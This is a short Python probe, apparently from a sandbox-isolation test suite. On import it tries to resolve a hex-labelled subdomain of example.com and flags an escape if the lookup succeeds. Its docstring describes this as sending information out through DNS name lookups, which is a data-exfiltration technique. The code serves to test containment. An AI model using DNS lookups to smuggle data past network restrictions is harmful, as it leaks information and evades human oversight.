"""Sends what it knows as the names that it looks up, or that a C library looks up for it."""

import socket

ENTRIES = ("D56", "D57")
SEEN = ("network",)


def attack(asked, *given):
    if asked != "import":
        return None
    for look_up in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80)):
        if tried(look_up, "0123456789abcdef.example.com"):
            escaped("a name was resolved")
    return None
